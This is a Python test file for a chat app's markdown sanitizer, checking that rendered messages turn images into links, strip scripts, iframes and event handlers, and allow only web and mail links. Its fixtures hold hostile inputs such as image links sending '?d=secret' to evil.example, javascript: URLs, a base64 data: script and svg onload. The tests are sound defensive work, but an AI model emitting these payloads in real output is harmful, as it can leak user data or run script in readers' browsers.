"""Rendered text loads nothing: images become links, labels are plain text."""

from __future__ import annotations

import re

import pytest

from chat.markup import inert_markdown, inert_stream, literal_markdown, message_html, plain


def test_images_become_links_outside_code() -> None:
    text = "see ![x](https://evil.example/?d=1) and ![y][ref]\n\n[ref]: https://evil.example/r"
    rendered, changed = inert_markdown(text)
    assert changed
    assert "![" not in rendered.replace("!\\[", "")
    assert "(https://evil.example/?d=1)" in rendered  # still there, as a link


def test_code_is_left_as_typed() -> None:
    text = "`![a](u)` and\n```\n![b](u)\n```\nend"
    assert inert_markdown(text) == (text, False)


def test_text_without_images_is_unchanged() -> None:
    text = "Hello! [a link](https://example.com) *bold* !important"
    assert inert_markdown(text) == (text, False)


def test_a_stream_never_shows_an_image_even_split_across_chunks() -> None:
    chunks = ["here ", "!", "[x](https://evil.example/", "?d=1)", " bye!"]
    streamed = "".join(inert_stream(chunks))
    assert "![" not in streamed
    assert streamed == "here !\\[x](https://evil.example/?d=1) bye!"


def test_plain_escapes_every_markdown_construct() -> None:
    title = "![t](https://evil.example/t) **b** [l](u) <i>"
    shown = plain(title)
    for construct in ("![", "**", "[l]", "<i>"):
        assert construct not in shown


HOSTILE = [
    '<img src="https://evil.example/a.png">',
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    "![x](https://evil.example/?d=secret)",
    "![y][r]\n\n[r]: https://evil.example/r",
    "[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=)",
    '<iframe src="https://evil.example"></iframe> <svg onload=alert(1)>',
    "`<b>code</b>`\n\n```html\n<script>x</script>\n```",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("literal", [False, True])
def test_message_html_loads_and_runs_nothing(text: str, literal: bool) -> None:
    rendered = message_html(text, literal=literal).lower()
    assert not re.search(r"<(img|script|iframe|svg|object|embed|style)\b", rendered)
    assert not re.search(r"<[^>]*\son\w+=", rendered)  # no event handler on any tag
    assert not re.search(r'href="(?!https?:|mailto:|#|/)', rendered)  # web and mail links only


def test_message_html_keeps_markdown_and_line_breaks() -> None:
    rendered = message_html("**bold** and [a](https://example.com)\nnext line", literal=False)
    assert "<strong>bold</strong>" in rendered and "<br" in rendered
    assert (
        'href="https://example.com"' in rendered
        and 'rel="nofollow noopener noreferrer"' in rendered
    )
    image = message_html("![alt](https://evil.example/i.png)", literal=False)
    assert image.count("<a ") == 1 and ">alt</a>" in image and "<img" not in image


def test_message_html_shows_a_persons_text_as_typed() -> None:
    assert message_html("<b>hi</b> *x*\n  indented", literal=True) == (
        "&lt;b&gt;hi&lt;/b&gt; *x*\n  indented"
    )


def unescaped(markdown: str) -> str:
    """What Markdown shows for text made only of escapes, hard breaks and spaces."""
    return re.sub(r"\\(.)", r"\1", markdown.replace("  \n", "\n")).replace("\u00a0", " ")


def test_a_persons_text_keeps_its_lines_and_layout_and_no_markup() -> None:
    typed = "Line one\nLine two\n\n    def f(x):\n        return *x* # `not code`\n![i](u)"
    shown = literal_markdown(typed)
    assert unescaped(shown) == typed
    assert "\n" in shown and "Line one  \nLine two" in shown  # a hard break, not a space
    assert "![" not in shown.replace("!\\[", "")


def test_an_answers_single_line_breaks_are_kept_outside_code() -> None:
    rendered, changed = inert_markdown("Line one\nLine two\n\n```\na\nb\n```\n- x\n- y")
    assert not changed
    assert rendered == "Line one  \nLine two\n\n```\na\nb\n```\n- x  \n- y"
